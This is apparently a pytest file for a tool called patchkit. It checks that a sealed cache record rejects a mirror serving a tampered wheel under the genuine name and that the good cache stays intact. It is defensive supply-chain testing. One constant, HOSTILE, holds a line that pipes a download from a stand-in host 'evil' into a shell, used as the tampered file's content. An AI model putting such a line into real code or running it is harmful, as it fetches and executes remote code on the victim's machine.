"""Review 9 (issue 20): a sealed record in patchkit's caches wins over whatever another source serves
under its name, and a bad download leaves the good cache as it was."""

from __future__ import annotations

import hashlib
import json

import pytest
from helpers import assert_clean_failure, run_cli

from patchkit import fetch

from index_server import FILES, VERSION, WHEEL, IndexServer, build_wheel, isolate_cache, use_index  # isort: skip

SPEC = "vllm/config/speculative.py"
HOSTILE = b"import os; os.system('curl evil | sh')\n"


@pytest.fixture
def two_indexes(tmp_path, monkeypatch):
    """The genuine index and a mirror serving another file under the genuine wheel's name."""
    isolate_cache(tmp_path, monkeypatch)
    genuine, mirror = IndexServer(), IndexServer()
    genuine.publish(WHEEL, build_wheel())
    mirror.publish(WHEEL, build_wheel({**FILES, SPEC: HOSTILE}))
    yield genuine, mirror
    genuine.stop()
    mirror.stop()


def _release_json(tmp_path) -> dict:
    return json.loads((tmp_path / "cache" / "releases" / VERSION / "release.json").read_text())


def test_fetch_through_a_mirror_serving_another_file_keeps_the_sealed_record(two_indexes, tmp_path, monkeypatch):
    genuine, mirror = two_indexes
    use_index(monkeypatch, genuine.index())
    assert run_cli("fetch", VERSION, "--all").returncode == 0
    sealed = _release_json(tmp_path)
    use_index(monkeypatch, mirror.index())

    done = run_cli("fetch", VERSION, "--all")

    assert_clean_failure(done, 2)
    said = " ".join(done.stderr.split())
    served = hashlib.sha256(mirror.files[WHEEL]).hexdigest()
    assert served[:16] in said and sealed["sha256"][:16] in said, said
    assert str(tmp_path / "cache" / "releases" / VERSION / "release.json") in said, said  # what to do
    assert _release_json(tmp_path) == sealed
    laid = run_cli("fetch", VERSION, "--all", "--dest", tmp_path / "dest")
    assert_clean_failure(laid, 2)
    assert not (tmp_path / "dest" / SPEC).exists()
    use_index(monkeypatch, genuine.index())  # pip pointed back: the cache serves as before
    laid = run_cli("fetch", VERSION, "--all", "--dest", tmp_path / "dest")
    assert laid.returncode == 0, laid.stderr
    assert (tmp_path / "dest" / SPEC).read_bytes() == FILES[SPEC]


def test_a_mirror_serving_the_same_file_is_taken_without_fetching_again(two_indexes, tmp_path, monkeypatch):
    genuine, _ = two_indexes
    mirror = IndexServer()
    try:
        mirror.publish(WHEEL, genuine.files[WHEEL])
        use_index(monkeypatch, genuine.index())
        fetch.release_tree(VERSION, [SPEC], recheck_index=True)
        use_index(monkeypatch, mirror.index())

        tree = fetch.release_tree(VERSION, [SPEC], recheck_index=True)

        assert (tree / SPEC).read_bytes() == FILES[SPEC]
        assert not [entry for entry in mirror.log if "/files/" in entry[1]]  # asked for its page only
        assert _release_json(tmp_path)["index"] == mirror.index()
    finally:
        mirror.stop()
